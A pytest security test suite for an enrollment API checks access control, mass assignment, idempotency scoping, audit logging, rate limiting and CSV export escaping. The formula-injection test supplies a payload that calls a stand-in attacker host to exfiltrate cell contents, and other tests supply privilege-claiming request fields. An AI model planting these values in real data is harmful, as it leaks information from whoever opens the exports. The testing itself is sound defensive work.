"""Access to data of other users: each attack as the exact request, sent to a running Seatline."""

from __future__ import annotations

import csv
import io

import pytest

from tests.acceptance.seatline import Client
from tests.sample_campus import PostgresWorld
from tests.security.people import Person, add_person, enroll

pytestmark = pytest.mark.cluster

ENROLLMENTS = "/api/enrollments"


@pytest.fixture
async def eve(campus: PostgresWorld, attacker: Client) -> Person:
    return await add_person(campus, attacker)


@pytest.fixture
async def bob(campus: PostgresWorld, attacker: Client) -> Person:
    return await add_person(campus, attacker)


async def audited(campus: PostgresWorld, person: Person) -> list[tuple[str, str]]:
    """What the audit log has of a person, in order."""
    statement = "SELECT action, subject FROM audit_log WHERE user_id = $1 ORDER BY id"
    return [tuple(row) for row in await campus.connection.fetch(statement, person.user_id)]


@pytest.mark.parametrize(("method", "suffix"), [("DELETE", ""), ("GET", "/status")])
async def test_anothers_enrolment_is_404_as_one_that_never_was_and_the_attempt_is_kept(
    campus: PostgresWorld, attacker: Client, eve: Person, bob: Person, method: str, suffix: str
) -> None:
    section_id = await campus.add_section(5)
    his = (await enroll(attacker, bob, section_id)).body["id"]

    theirs = await attacker.request(method, f"{ENROLLMENTS}/{his}{suffix}", eve.token)
    nobodys = await attacker.request(method, f"{ENROLLMENTS}/{10**15}{suffix}", eve.token)

    assert theirs.status == nobodys.status == 404
    assert {**theirs.body, "request_id": ""} == {**nobodys.body, "request_id": ""}
    assert await campus.statuses(section_id) == {bob.role_id: "enrolled"}
    assert await audited(campus, eve) == [(f"foreign_enrollment.{method.lower()}", f"enrollment:{his}")]
    assert await audited(campus, bob) == []


@pytest.mark.parametrize(
    "claim", [{"student_id": 1}, {"status": "enrolled"}, {"position": 1}, {"role": "admin"}, {"epoch": 99}]
)
async def test_a_body_that_claims_more_than_a_section_changes_nothing(
    campus: PostgresWorld, attacker: Client, eve: Person, bob: Person, claim: dict[str, object]
) -> None:
    section_id = await campus.add_section(1)
    claim = {"student_id": bob.role_id} if "student_id" in claim else claim

    answer = await attacker.request("POST", ENROLLMENTS, eve.token, {"section_id": section_id, **claim})

    assert (answer.status, answer.body["code"]) == (422, "invalid")
    assert await campus.statuses(section_id) == {}
    assert (await campus.seats(section_id)).epoch == 0, "no actor was even asked"


async def test_anothers_idempotency_key_is_not_ones_own(
    campus: PostgresWorld, attacker: Client, eve: Person, bob: Person
) -> None:
    his_section, her_section = await campus.add_section(5), await campus.add_section(5)
    key = {"Idempotency-Key": f"key-of-{bob.user_id}"}
    his = await enroll(attacker, bob, his_section, **key)

    hers = await enroll(attacker, eve, her_section, **key)
    again = await enroll(attacker, bob, his_section, **key)

    assert (his.status, hers.status) == (201, 201)
    assert hers.body["id"] != his.body["id"]
    assert "Idempotent-Replayed" not in hers.headers
    assert await campus.statuses(her_section) == {eve.role_id: "enrolled"}
    assert again.body == his.body
    assert again.headers["Idempotent-Replayed"] == "true"


async def test_a_student_gets_neither_a_roster_nor_the_administrators_route(
    campus: PostgresWorld, attacker: Client, eve: Person
) -> None:
    section_id = await campus.add_section(5)

    roster = await attacker.request("GET", f"/api/sections/{section_id}/roster", eve.token)
    change = await attacker.request("PATCH", f"/api/admin/sections/{section_id}", eve.token, {"capacity": 0})

    assert [one.body["code"] for one in (roster, change)] == ["forbidden", "forbidden"]
    assert roster.status == change.status == 403
    assert (await campus.seats(section_id)).capacity == 5


async def test_a_teacher_gets_the_roster_of_their_own_sections_only_and_every_look_is_kept(
    campus: PostgresWorld, attacker: Client, bob: Person
) -> None:
    teacher = await add_person(campus, attacker, "teacher")
    own, others = await campus.add_section(5), await campus.add_section(5)
    await campus.connection.execute("UPDATE course_sections SET teacher_id = $2 WHERE id = $1", own, teacher.role_id)
    for section_id in (own, others):
        assert (await enroll(attacker, bob, section_id)).status == 201

    allowed = await attacker.request("GET", f"/api/sections/{own}/roster", teacher.token)
    refused = await attacker.request("GET", f"/api/sections/{others}/roster", teacher.token)
    change = await attacker.request("PATCH", f"/api/admin/sections/{own}", teacher.token, {"capacity": 99})

    assert [one["student_id"] for one in allowed.body["enrolled"]] == [bob.role_id]
    assert (refused.status, change.status) == (403, 403)
    assert "enrolled" not in refused.body
    assert await audited(campus, teacher) == [
        ("roster.read", f"section:{own}"),
        ("roster.refused", f"section:{others}"),
    ]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
)
async def test_a_name_that_is_a_formula_is_not_run_by_whoever_opens_the_export(
    campus: PostgresWorld, attacker: Client, eve: Person, name: str
) -> None:
    teacher = await add_person(campus, attacker, "teacher")
    own = await campus.add_section(5)
    await campus.connection.execute("UPDATE course_sections SET teacher_id = $2 WHERE id = $1", own, teacher.role_id)
    await campus.connection.execute("UPDATE users SET name = $2 WHERE id = $1", eve.user_id, name)
    assert (await enroll(attacker, eve, own)).status == 201

    made = await attacker.request("POST", f"/api/sections/{own}/roster-exports", teacher.token)
    assert made.status == 201, made.body
    had = await attacker.request("GET", made.body["url"], teacher.token)

    header, row = csv.reader(io.StringIO(had.body.decode(), newline=""))
    assert row[header.index("name")] == f"'{name}"
    assert await audited(campus, teacher) == [
        ("roster.export", f"section:{own}"),
        ("roster.download", f"export:{made.body['url'].rpartition('/')[2]}"),
    ]


async def test_an_export_is_made_and_had_by_its_own_teacher_alone(
    campus: PostgresWorld, attacker: Client, eve: Person
) -> None:
    teacher, other = await add_person(campus, attacker, "teacher"), await add_person(campus, attacker, "teacher")
    own = await campus.add_section(5)
    await campus.connection.execute("UPDATE course_sections SET teacher_id = $2 WHERE id = $1", own, teacher.role_id)
    path = f"/api/sections/{own}/roster-exports"
    url = (await attacker.request("POST", path, teacher.token)).body["url"]

    tried = [await attacker.request("POST", path, one) for one in (eve.token, other.token, None)]
    read = [await attacker.request("GET", url, one) for one in (eve.token, other.token, None)]

    assert [one.status for one in tried] == [403, 403, 401]
    assert [one.status for one in read] == [403, 404, 401]


async def test_what_an_administrator_does_is_kept(campus: PostgresWorld, attacker: Client) -> None:
    admin = await add_person(campus, attacker, "admin")
    section_id = await campus.add_section(5)

    changed = await attacker.request(
        "PATCH", f"/api/admin/sections/{section_id}", admin.token, {"capacity": 7, "is_open": False}
    )
    await attacker.request("GET", f"/api/sections/{section_id}/roster", admin.token)

    assert changed.status == 200
    assert await audited(campus, admin) == [
        ("section.close", f"section:{section_id}"),
        ("section.change_capacity", f"section:{section_id}"),
        ("roster.read", f"section:{section_id}"),
    ]


async def test_a_flood_of_one_student_is_429_and_the_others_get_their_seats(
    campus: PostgresWorld, attacker: Client, eve: Person
) -> None:
    others = [await add_person(campus, attacker) for _ in range(3)]
    section_id = await campus.add_section(500)

    floods = [await enroll(attacker, eve, section_id) for _ in range(100)]
    theirs = [await enroll(attacker, one, section_id) for one in others]

    refused = [one for one in floods if one.status == 429]
    assert refused
    assert all(int(one.headers["Retry-After"]) >= 1 for one in refused)
    assert [one.status for one in theirs] == [201, 201, 201]
    assert len(await campus.statuses(section_id)) == 4
